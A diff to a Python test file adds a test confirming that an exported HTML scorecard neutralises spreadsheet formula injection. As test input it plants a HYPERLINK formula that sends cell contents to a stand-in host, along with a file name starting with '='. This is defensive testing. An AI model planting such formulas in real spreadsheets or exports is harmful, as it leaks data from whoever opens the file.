@@ -390,3 +390,14 @@ def test_a_zero_without_a_rule_says_that_a_model_may_have_looked(
     entry = next(each for one in about.indicators for each in one.elements if each.element.id == "A.1.1/S2.a")
     bare = replace(entry, rules=0, element=replace(entry.element, wordings=wordings))
     assert list(_nothing(about.receipt, bare))[-1] == f"No entry of the lexicons searches for it; {told}"
+
+
+def test_no_block_of_the_page_begins_like_a_formula_to_a_spreadsheet_that_opens_it(tmp_path: Path) -> None:
+    formula = '=HYPERLINK("https://x.example?leak="&A1,"click")'
+    fill(tmp_path / "workspace", [dict.fromkeys(payloads(0), formula) | {"file name": "=cmd.txt"}])
+    with open_store(tmp_path / "workspace") as store:
+        export_file(store, "scorecard", tmp_path / "card.html", formula, None)
+    page = html.fromstring((tmp_path / "card.html").read_bytes())
+    blocks = [one.text_content().strip(" \n") for one in page.iter("h1", "h2", "h4", "h5", "dt", "dd", "p", "li", "td")]
+    assert any(formula in block for block in blocks)
+    assert [block for block in blocks if block.startswith(("=", "+", "-", "@"))] == []
